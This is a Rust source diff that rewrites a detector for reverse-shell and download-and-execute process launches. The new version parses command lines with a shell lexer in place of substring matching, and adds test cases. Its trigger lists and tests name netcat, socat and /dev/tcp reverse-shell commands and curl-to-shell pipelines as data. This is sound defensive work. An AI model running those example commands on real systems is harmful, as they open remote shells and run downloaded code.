@@ -2,11 +2,18 @@
 //!
 //! These apply to every process launch, inside a request or not (a deserialization gadget or a
 //! compromised dependency launches from a background thread): a reverse shell, or code
-//! downloaded and run in one go. They are judged on the words of the command line and of a
-//! shell script in it, not on request input. (The rule engine of a later release generalises
-//! this into user-editable rules; these are the shipped defaults.)
+//! downloaded and run in one go. They are judged on the command's real structure, the argument
+//! vector, and for a shell's `-c` script its simple commands as the shell lexer splits them, so
+//! that text which is only an argument (`grep 'nc -e /bin/sh' auth.log`) is not mistaken for a
+//! command. (The rule engine of a later release generalises this into user-editable rules;
+//! these are the shipped defaults.)
 
-use super::programs::basename;
+use std::sync::LazyLock;
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder};
+
+use super::lexer::{tokenize, ShellTokenKind};
+use super::programs::{basename, shell_script_index};
 use super::CommandLine;
 
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -33,77 +40,170 @@ impl CmdPolicy {
     }
 }
 
-const SHELLS_AND_INTERPRETERS: [&str; 11] = [
-    "sh", "bash", "dash", "zsh", "ksh", "ash", "python", "python3", "perl", "ruby", "php",
-];
+/// Words without which no policy can match: most launches are rejected by this one scan.
+static TRIGGERS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
+    AhoCorasickBuilder::new()
+        .ascii_case_insensitive(true)
+        .build([
+            "/dev/tcp/",
+            "/dev/udp/",
+            "nc",
+            "netcat",
+            "socat",
+            "socket",
+            "curl",
+            "wget",
+            "fetch",
+        ])
+        .ok()
+});
 
-/// Splits a command line into pipeline segments (at `|`, `;`, `&`, newlines) of words.
-fn segments(line: &str) -> Vec<Vec<String>> {
-    line.split(['|', ';', '&', '\n'])
-        .map(|seg| {
-            seg.split(|c: char| {
-                c.is_whitespace() || c == '(' || c == ')' || c == '`' || c == '"' || c == '\''
-            })
-            .filter(|w| !w.is_empty())
-            .map(str::to_owned)
-            .collect::<Vec<_>>()
-        })
-        .filter(|seg: &Vec<String>| !seg.is_empty())
-        .collect()
+const NETCAT: [&str; 3] = ["nc", "ncat", "netcat"];
+const INTERPRETERS: [&str; 7] = [
+    "python", "python2", "python3", "perl", "ruby", "php", "node",
+];
+const SHELLS_AND_INTERPRETERS: [&str; 13] = [
+    "sh", "bash", "dash", "zsh", "ksh", "ash", "python", "python2", "python3", "perl", "ruby",
+    "php", "node",
+];
+const DOWNLOADERS: [&str; 3] = ["curl", "wget", "fetch"];
+
+/// A simple command: its words (quotes removed) and whether its output is piped on.
+struct Simple {
+    words: Vec<String>,
+    piped: bool,
+}
+
+impl Simple {
+    fn program(&self) -> String {
+        self.words.first().map(|w| basename(w)).unwrap_or_default()
+    }
 }
 
 /// The policy a launch violates, if any.
 pub fn check(cmd: &CommandLine) -> Option<CmdPolicy> {
-    let (line, _) = cmd.joined();
-    let lower = line.to_ascii_lowercase();
-    if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") {
-        return Some(CmdPolicy::ReverseShell);
+    let triggers = TRIGGERS.as_ref()?;
+    if !cmd.argv.iter().any(|a| triggers.is_match(a)) {
+        return None;
     }
-    let segs = segments(&lower);
-    let words = || segs.iter().flatten();
-    let is = |w: &String, names: &[&str]| names.contains(&basename(w).as_str());
-
-    // nc -e /bin/sh host port, ncat -c, socat exec:, mkfifo + nc
-    let netcat = ["nc", "ncat", "netcat"];
-    for seg in &segs {
-        if let Some(pos) = seg.iter().position(|w| is(w, &netcat)) {
-            if seg[pos + 1..].iter().any(|w| {
-                w.starts_with("-e") || w.starts_with("-c") || w == "--exec" || w == "--sh-exec"
-            }) {
+    let commands = match shell_script_index(&cmd.argv) {
+        Some(i) => {
+            let script = cmd.argv[i..].join(" ");
+            let (commands, redirects_to_socket) = simple_commands(script.as_bytes())?;
+            if redirects_to_socket {
                 return Some(CmdPolicy::ReverseShell);
             }
+            commands
         }
-    }
-    if words().any(|w| is(w, &["socat"])) && lower.contains("exec:") {
-        return Some(CmdPolicy::ReverseShell);
-    }
-    if words().any(|w| is(w, &["mkfifo", "mknod"])) && words().any(|w| is(w, &netcat)) {
-        return Some(CmdPolicy::ReverseShell);
-    }
-    let interpreter =
-        words().any(|w| is(w, &["python", "python2", "python3", "perl", "ruby", "php"]));
-    if interpreter
-        && lower.contains("socket")
-        && ["connect", "fsockopen", "tcpsocket"]
-            .iter()
-            .any(|k| lower.contains(k))
-    {
-        return Some(CmdPolicy::ReverseShell);
-    }
+        None => vec![Simple {
+            words: cmd.argv.clone(),
+            piped: false,
+        }],
+    };
+    judge(&commands)
+}
 
-    // curl ... | sh, wget -O- ... | python; curl -o x && chmod +x x
-    let downloader = ["curl", "wget", "fetch"];
-    if let Some(first) = segs
-        .iter()
-        .position(|seg| seg.iter().any(|w| is(w, &downloader)))
-    {
-        let piped_to_interpreter = segs[first + 1..]
-            .iter()
-            .any(|seg| seg.first().is_some_and(|w| is(w, &SHELLS_AND_INTERPRETERS)));
-        let made_executable = words().any(|w| is(w, &["chmod"])) && lower.contains("+x");
-        if piped_to_interpreter || made_executable {
-            return Some(CmdPolicy::DownloadExecute);
+/// Splits a script into simple commands, and says whether any redirection goes to a
+/// `/dev/tcp` or `/dev/udp` socket. `None` for a script the lexer cannot read.
+fn simple_commands(script: &[u8]) -> Option<(Vec<Simple>, bool)> {
+    let tokens = tokenize(script).ok()?;
+    let mut commands = Vec::new();
+    let mut current = Simple {
+        words: Vec::new(),
+        piped: false,
+    };
+    let mut socket = false;
+    let mut after_redirect = false;
+    for t in tokens.iter() {
+        let text = String::from_utf8_lossy(&script[t.start..t.end]);
+        match t.kind {
+            ShellTokenKind::Word => {
+                let word = unquote(&text);
+                if after_redirect {
+                    socket |= word.starts_with("/dev/tcp/") || word.starts_with("/dev/udp/");
+                    after_redirect = false;
+                } else {
+                    current.words.push(word);
+                }
+            }
+            ShellTokenKind::Redirection => after_redirect = true,
+            ShellTokenKind::Operator => {
+                current.piped = text.starts_with('|') && text != "||";
+                let next = Simple {
+                    words: Vec::new(),
+                    piped: false,
+                };
+                let done = std::mem::replace(&mut current, next);
+                if !done.words.is_empty() {
+                    commands.push(done);
+                }
+            }
+            ShellTokenKind::Whitespace | ShellTokenKind::Expansion | ShellTokenKind::Comment => {}
         }
+    }
+    if !current.words.is_empty() {
+        commands.push(current);
+    }
+    Some((commands, socket))
+}
+
+/// A word as the shell passes it on: quotes and backslash escapes removed.
+fn unquote(word: &str) -> String {
+    let mut out = String::with_capacity(word.len());
+    let mut chars = word.chars();
+    let mut quote: Option<char> = None;
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            (None, '\'' | '"') => quote = Some(c),
+            (Some(q), c) if c == q => quote = None,
+            (None | Some('"'), '\\') => out.extend(chars.next()),
+            _ => out.push(c),
+        }
+    }
+    out
+}
+
+fn judge(commands: &[Simple]) -> Option<CmdPolicy> {
+    let programs: Vec<String> = commands.iter().map(Simple::program).collect();
+    for (c, program) in commands.iter().zip(&programs) {
+        let args = &c.words[1..];
+        let reverse = match program.as_str() {
+            p if NETCAT.contains(&p) => args.iter().any(|a| {
+                a.starts_with("-e") || a.starts_with("-c") || a == "--exec" || a == "--sh-exec"
+            }),
+            "socat" => args.iter().any(|a| {
+                let a = a.to_ascii_lowercase();
+                a.contains("exec:") || a.contains("system:")
+            }),
+            p if INTERPRETERS.contains(&p) => args.iter().any(|a| {
+                let a = a.to_ascii_lowercase();
+                a.contains("socket")
+                    && ["connect", "fsockopen", "tcpsocket"]
+                        .iter()
+                        .any(|k| a.contains(k))
+            }),
+            _ => false,
+        };
+        if reverse {
+            return Some(CmdPolicy::ReverseShell);
+        }
+    }
+    let fifo = programs.iter().any(|p| p == "mkfifo" || p == "mknod");
+    if fifo && programs.iter().any(|p| NETCAT.contains(&p.as_str())) {
+        return Some(CmdPolicy::ReverseShell);
+    }
+    let downloads = programs.iter().any(|p| DOWNLOADERS.contains(&p.as_str()));
+    let piped_download_runs = commands.windows(2).zip(&programs).any(|(pair, p)| {
+        DOWNLOADERS.contains(&p.as_str())
+            && pair[0].piped
+            && SHELLS_AND_INTERPRETERS.contains(&pair[1].program().as_str())
+    });
+    let made_executable = commands
+        .iter()
+        .zip(&programs)
+        .any(|(c, p)| p == "chmod" && c.words.iter().any(|w| w.contains("+x")));
+    if piped_download_runs || (downloads && made_executable) {
+        return Some(CmdPolicy::DownloadExecute);
     }
     None
 }
@@ -128,10 +228,22 @@ mod tests {
             ),
             (&["bash", "-c", "echo done > /tmp/out"], None),
             (
+                &["bash", "-c", "echo /dev/tcp/10.0.0.1/4444 is closed"],
+                None,
+            ),
+            (
                 &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
                 Some(CmdPolicy::ReverseShell),
             ),
             (&["nc", "-z", "10.0.0.1", "4444"], None),
+            (
+                &["grep", "-c", "--", "nc -e /bin/sh", "/var/log/auth.log"],
+                None,
+            ),
+            (
+                &["sh", "-c", "grep -c -- 'nc -e /bin/sh' /var/log/auth.log"],
+                None,
+            ),
             (
                 &[
                     "sh",
@@ -175,9 +287,16 @@ mod tests {
                 &["sh", "-c", "curl -s https://api.example/v1 | jq .status"],
                 None,
             ),
+            (&["sh", "-c", "echo 'curl x | sh' >> notes.txt"], None),
+            (&["sh", "-c", "unterminated 'nc -e"], None),
         ];
         for (argv, want) in cases {
             assert_eq!(check(&cmd(argv)), *want, "{argv:?}");
         }
+    }
+
+    #[test]
+    fn unquoting() {
+        assert_eq!(unquote(r#"'a b'"c\"d"e\ f"#), "a bc\"de f");
     }
 }
